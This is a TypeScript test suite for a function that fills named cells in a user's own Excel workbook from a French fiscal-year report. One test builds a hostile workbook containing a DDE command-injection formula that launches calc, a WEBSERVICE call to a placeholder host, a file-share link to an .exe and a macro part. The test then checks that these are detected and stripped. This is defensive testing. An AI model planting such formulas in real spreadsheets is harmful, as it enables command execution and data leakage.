import ExcelJS from 'exceljs'
import { strToU8, unzipSync, zipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { fiscalYearReport } from '../../../electron/exchange/out/models/fiscal-year/fiscal-year-report.ts'
import { fillWorkbook } from '../../../electron/exchange/out/templates/fill-workbook.ts'
import { namedValues, templateFields } from '../../../electron/exchange/out/templates/names.ts'
import { demoInput } from './support/input.ts'
import { readBack, sheetOf } from './support/workbook.ts'

const report = fiscalYearReport(demoInput({ kind: 'fiscal-year', fiscalYear: 2026 }))
const values = namedValues(report)

async function template(
  name: (workbook: ExcelJS.Workbook, sheet: ExcelJS.Worksheet) => void,
): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook()
  const sheet = workbook.addWorksheet('Mon suivi')
  name(workbook, sheet)
  return new Uint8Array(await workbook.xlsx.writeBuffer())
}

describe('one’s own workbook', () => {
  test('gets its named cells, and keeps its formats, its formulas and its other cells', async () => {
    const bytes = await template((workbook, sheet) => {
      sheet.getCell('A1').value = 'Notifié'
      sheet.getCell('B1').numFmt = '#,##0 "euros"'
      sheet.getCell('B1').font = { bold: true, color: { argb: 'FF0B5570' } }
      sheet.getCell('B2').value = { formula: 'B1/2', result: 0, date1904: false }
      workbook.definedNames.add("'Mon suivi'!$B$1", 'total_conventions_notifie')
    })
    const filled = await fillWorkbook(bytes, values)
    if (!filled.ok) throw new Error(filled.code)
    const sheet = sheetOf(await readBack(filled.bytes), 'Mon suivi')
    expect(sheet.getCell('B1').value).toBe(396_500)
    expect(sheet.getCell('B1').numFmt).toBe('#,##0 "euros"')
    expect(sheet.getCell('B1').font).toMatchObject({ bold: true, color: { argb: 'FF0B5570' } })
    expect(sheet.getCell('B2').value).toMatchObject({ formula: 'B1/2' })
    expect(sheet.getCell('A1').value).toBe('Notifié')
    expect(filled).toMatchObject({ filled: 1, unknown: [], lost: [] })
  })

  test('widens a column that would show ##### instead of its days or amounts, and leaves the others', async () => {
    const bytes = await template((workbook, sheet) => {
      sheet.getColumn('B').width = 30
      sheet.getColumn('C').width = 7
      workbook.definedNames.add("'Mon suivi'!$A$5", 'tranches_attendue_le')
      workbook.definedNames.add("'Mon suivi'!$B$5", 'tranches_montant_prevu')
      workbook.definedNames.add("'Mon suivi'!$C$5", 'tranches_poste')
      workbook.definedNames.add("'Mon suivi'!$D$5", 'total_tranches_montant_prevu')
    })
    const filled = await fillWorkbook(bytes, values)
    if (!filled.ok) throw new Error(filled.code)
    const sheet = sheetOf(await readBack(filled.bytes), 'Mon suivi')
    expect(sheet.getColumn('A').width).toBe(11)
    expect([sheet.getColumn('B').width, sheet.getColumn('C').width]).toEqual([30, 7])
    expect(sheet.getColumn('D').width).toBeGreaterThanOrEqual('396 500,00'.length)
  })

  test('never shows an old result of its own formulas beside the new figures: they are worked out again', async () => {
    const bytes = await template((workbook, sheet) => {
      workbook.definedNames.add("'Mon suivi'!$B$1", 'total_conventions_notifie')
      sheet.getCell('B2').value = { formula: 'B1/2', result: 12_345, date1904: false }
      sheet.getCell('C1').value = {
        formula: 'A1+1',
        result: 77_777,
        shareType: 'shared',
        ref: 'C1:C2',
      } as never
      sheet.getCell('C2').value = { sharedFormula: 'C1', result: 88_888, date1904: false } as never
      sheet.getCell('D1').value = { formula: 'SUM(B1:B2)', result: 0, date1904: false }
      workbook.addWorksheet('Bilan').getCell('A1').value = {
        formula: 'IF(\'Mon suivi\'!B1>0,"vieux","")',
        result: 'périmé',
        date1904: false,
      }
    })
    const filled = await fillWorkbook(bytes, values)
    if (!filled.ok) throw new Error(filled.code)
    const parts = unzipSync(filled.bytes)
    const sheets = [1, 2]
      .map((n) => Buffer.from(parts[`xl/worksheets/sheet${n}.xml`] ?? []).toString())
      .join()
    expect(sheets).not.toMatch(/12345|77777|88888|périmé/)
    expect(sheets).not.toMatch(/<\/f><v>/)
    const workbook = await readBack(filled.bytes)
    const formulas = ['B2', 'C1', 'C2'].map((at) => sheetOf(workbook, 'Mon suivi').getCell(at).formula)
    expect(formulas).toEqual(['B1/2', 'A1+1', 'A2+1'])
    expect(Buffer.from(parts['xl/workbook.xml'] ?? []).toString()).toContain('fullCalcOnLoad="1"')
  })

  test('fills a list downwards, each line as the first, identifiers as text and days as days', async () => {
    const bytes = await template((workbook, sheet) => {
      sheet.getCell('A5').fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFF1F3F5' } }
      workbook.definedNames.add("'Mon suivi'!$A$5", 'tranches_id_poste')
      workbook.definedNames.add("'Mon suivi'!$B$5", 'tranches_attendue_le')
      workbook.definedNames.add("'Mon suivi'!$C$5", 'Tranches_Reste_du')
      workbook.definedNames.add("'Mon suivi'!$D$5", 'mon_nom_a_moi')
    })
    const filled = await fillWorkbook(bytes, values)
    if (!filled.ok) throw new Error(filled.code)
    const sheet = sheetOf(await readBack(filled.bytes), 'Mon suivi')
    expect(sheet.getCell('A5').value).toBe('2101')
    expect(sheet.getCell('A30').value).toBe('3312')
    expect(sheet.getCell('A30').fill).toMatchObject({ fgColor: { argb: 'FFF1F3F5' } })
    expect(sheet.getCell('B5').value).toEqual(new Date('2024-03-31T00:00:00Z'))
    expect(sheet.getCell('C7').value).toBe(4_000)
    expect(filled.filled).toBe(78)
    expect(filled.unknown).toEqual(['mon_nom_a_moi'])
  })

  test('is refused where no name is ours, or it is no workbook, and says what it cannot keep', async () => {
    expect(await fillWorkbook(await template(() => {}), values)).toEqual({
      ok: false,
      code: 'template.no-name',
    })
    expect(await fillWorkbook(strToU8('x'), values)).toEqual({ ok: false, code: 'template.not-xlsx' })
    const bytes = await template((workbook) => {
      workbook.definedNames.add("'Mon suivi'!$B$1", 'total_conventions_recu')
    })
    const withChart = zipSync({ ...unzipSync(bytes), 'xl/charts/chart1.xml': strToU8('<c/>') })
    expect(await fillWorkbook(withChart, values)).toMatchObject({ ok: true, lost: ['graphiques'] })
  })

  test('of a stranger is named by what acts in it, and filled without it on request', async () => {
    const bytes = await template((workbook, sheet) => {
      workbook.definedNames.add("'Mon suivi'!$B$1", 'total_conventions_recu')
      sheet.getCell('A1').value = {
        formula: 'WEBSERVICE("https://exemple.invalid/"&B1)',
        result: 'reçu',
        date1904: false,
      }
      sheet.getCell('A2').value = { formula: "cmd|'/c calc'!A0", result: 12, date1904: false }
      sheet.getCell('A3').value = { formula: "'[Autre.xlsx]Feuil1'!B2", result: 34, date1904: false }
      sheet.getCell('A4').value = { text: 'le partage', hyperlink: 'file://serveur/partage/x.exe' }
      sheet.getCell('A5').value = { text: 'le site', hyperlink: 'https://www.exemple.test/' }
      sheet.getCell('A6').value = { formula: 'SUM(B1:B2)', result: 0, date1904: false }
      sheet.getCell('A7').dataValidation = { type: 'list', formulae: ["'[Autre.xlsx]Feuil1'!A1:A9"] }
      for (const formula of ["'[Autre.xlsx]Feuil1'!A1>0", 'ISBLANK(B2)'])
        sheet.addConditionalFormatting({
          ref: 'B1:B9',
          rules: [{ type: 'expression', formulae: [formula], priority: 1, style: { font: { bold: true } } }],
        })
    })
    const strange = zipSync({
      ...unzipSync(bytes),
      'xl/vbaProject.bin': strToU8('x'),
      'xl/macrosheets/sheet1.xml': strToU8('<x/>'),
    })
    const refused = await fillWorkbook(strange, values)
    expect(refused).toMatchObject({ ok: false, code: 'template.foreign' })
    expect('foreign' in refused ? refused.foreign.map((part) => part.kind) : []).toEqual([
      'macros',
      'odd-links',
      'formulas',
    ])
    const filled = await fillWorkbook(strange, values, { withoutForeign: true })
    if (!filled.ok) throw new Error(filled.code)
    const sheet = sheetOf(await readBack(filled.bytes), 'Mon suivi')
    expect(['A1', 'A2', 'A3', 'A4'].map((at) => sheet.getCell(at).value)).toEqual([
      'reçu',
      12,
      34,
      'le partage',
    ])
    expect(sheet.getCell('A5').hyperlink).toBe('https://www.exemple.test/')
    expect(sheet.getCell('A6').formula).toBe('SUM(B1:B2)')
    expect(filled.removed.map((part) => part.kind)).toEqual(['macros', 'odd-links', 'formulas'])
    const all = Object.values(unzipSync(filled.bytes))
      .map((part) => Buffer.from(part).toString('latin1'))
      .join()
    expect(all).toContain('ISBLANK(B2)')
    expect(all).not.toMatch(/WEBSERVICE|cmd\||Autre\.xlsx|partage\/x\.exe|vbaProject/)
  })

  test('whose text only looks like a formula that goes out is a person’s own', async () => {
    const bytes = await template((workbook, sheet) => {
      workbook.definedNames.add("'Mon suivi'!$B$1", 'total_conventions_recu')
      sheet.getCell('A1').value = {
        formula: 'IF(B1>0,"[reçu]|ok!","à voir")',
        result: 'à voir',
        date1904: false,
      }
      sheet.getCell('A2').value = {
        formula: 'HYPERLINK("#\'Mon suivi\'!B1","voir")',
        result: 'voir',
        date1904: false,
      }
      sheet.getCell('A3').value = { formula: "'Mon suivi'!B1*2", result: 2, date1904: false }
      sheet.getCell('A4').value = 'WEBSERVICE( et cmd|x!A0 écrits en toutes lettres'
    })
    expect(await fillWorkbook(bytes, values)).toMatchObject({ ok: true, removed: [] })
  })

  test('names serve every year, and each is listed with what it holds', () => {
    const names = templateFields(report).map((f) => f.name)
    expect(names).toContain('produits_par_exercice_produit_exercice')
    expect(names).toContain('total_produits_par_exercice_a_reporter_apres_exercice_487')
    expect(new Set(names).size).toBe(names.length)
    const former = fiscalYearReport(demoInput({ kind: 'fiscal-year', fiscalYear: 2025 }))
    expect(templateFields(former).map((f) => f.name)).toEqual(names)
    for (const name of names) expect(name).toMatch(/^[a-z][a-z0-9_]*$/)
    expect(values.single.get('total_produits_par_exercice_produit_exercice')).toEqual({
      kind: 'cents',
      value: 96_250_00,
    })
  })
})
